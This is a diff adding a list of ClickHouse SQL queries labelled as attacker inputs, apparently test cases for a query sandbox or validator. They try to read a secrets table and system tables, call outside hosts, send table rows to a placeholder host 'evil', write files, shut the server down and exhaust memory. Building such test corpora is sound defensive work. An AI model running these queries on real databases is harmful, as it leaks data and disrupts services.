@@ -242,3 +242,89 @@ SELECT * FROM orders ARRAY JOIN (SELECT groupArray(secret) FROM secrets) AS a
 SELECT * FROM LATERAL secrets.x
 -- [function whose letters only look alike]
 SELECT toKday()
+-- [attacker 000]
+SELECT * FROM url('http://evil/x', CSV, 'a String')
+-- [attacker 004]
+SELECT * FROM s3Cluster('c', 'https://b/x', 'CSV')
+-- [attacker 008]
+SELECT * FROM clusterAllReplicas('c', default, secrets)
+-- [attacker 012]
+SELECT * FROM postgresql('h:5432', 'd', 't', 'u', 'p')
+-- [attacker 016]
+SELECT * FROM hdfs('hdfs://x', 'TSV', 'a String')
+-- [attacker 020]
+SELECT * FROM view(SELECT * FROM secrets)
+-- [attacker 024]
+SELECT * FROM fuzzJSON('x')
+-- [attacker 028]
+SELECT * FROM azureBlobStorage('x', 'y', 'z')
+-- [attacker 032]
+SELECT * FROM gcs('https://x')
+-- [attacker 036]
+SELECT * FROM zeros(100000000000)
+-- [attacker 040]
+SELECT * FROM system.users
+-- [attacker 044]
+SELECT dictGetOrDefault('d', 'a', 1, 'x'), dictHas('d', 1), dictGetString('d', 'a', toUInt64(1)), dictGetChildren('d', 1)
+-- [attacker 048]
+SELECT sleep(3)
+-- [attacker 052]
+SELECT hostName(), version(), currentUser(), currentDatabase(), uptime(), serverUUID(), tcpPort(), FQDN(), displayName(), buildId()
+-- [attacker 056]
+SELECT * FROM orders INTO OUTFILE 'x' FORMAT CSV
+-- [attacker 060]
+SELECT * FROM analytics.orders
+-- [attacker 064]
+SELECT * FROM orders WHERE id IN (secrets)
+-- [attacker 068]
+WITH secrets AS (SELECT * FROM secrets) SELECT * FROM secrets
+-- [attacker 072]
+SELECT arrayMap(x -> (SELECT max(p) FROM secrets), [1])
+-- [attacker 076]
+SELECT * FROM orders SAMPLE 0.1 OFFSET (SELECT 1 FROM secrets)
+-- [attacker 080]
+INSERT INTO FUNCTION url('http://evil') SELECT * FROM orders
+-- [attacker 084]
+SYSTEM SHUTDOWN
+-- [attacker 088]
+DESCRIBE (SELECT * FROM url('http://x'))
+-- [attacker 092]
+SET max_threads = 1
+-- [attacker 096]
+WATCH x
+-- [attacker 100]
+SELECT range(100000000000)
+-- [attacker 104]
+SELECT generateUUIDv4(), randomString(10000000000), randomPrintableASCII(100000000000)
+-- [attacker 108]
+SELECT addressToLine(1), addressToSymbol(1), demangle('x'), trap('x'), filesystemAvailable()
+-- [attacker 112]
+SELECT ai.generate('x'), aiGenerate('x'), naiveBayesClassifier('m', 'x')
+-- [attacker 116]
+SELECT COLUMNS('.*') FROM secrets
+-- [attacker 120]
+(SELECT 1) UNION ALL (SELECT * FROM secrets)
+-- [attacker 124]
+SELECT * FROM orders WHERE (id, id) IN secrets
+-- [attacker 128]
+SELECT * FROM system.zeros
+-- [attacker 132]
+SELECT * FROM remote('x', system, tables)
+-- [attacker 136]
+SELECT * FROM format(JSONEachRow, '{"a":1}')
+-- [attacker 140]
+SELECT * FROM mergeTreeParts(default, secrets)
+-- [attacker 144]
+SELECT count() FROM zeros_mt(1000000000000)
+-- [attacker 148]
+SELECT CURRENTUSER(), HOSTNAME(), Hostname(), USER(), DATABASE(), SCHEMA()
+-- [attacker 152]
+SELECT * FROM (SELECT * FROM orders SETTINGS readonly = 0)
+-- [attacker 156]
+SELECT arrayMap(x -> x IN secrets, [1])
+-- [attacker 160]
+SELECT * FROM orders LEFT JOIN secrets USING id
+-- [attacker 164]
+SELECT * REPLACE ((SELECT s FROM secrets) AS id) FROM orders
+-- [attacker 168]
+SELECT 1 INTO OUTFILE 'x' TRUNCATE FORMAT CSV
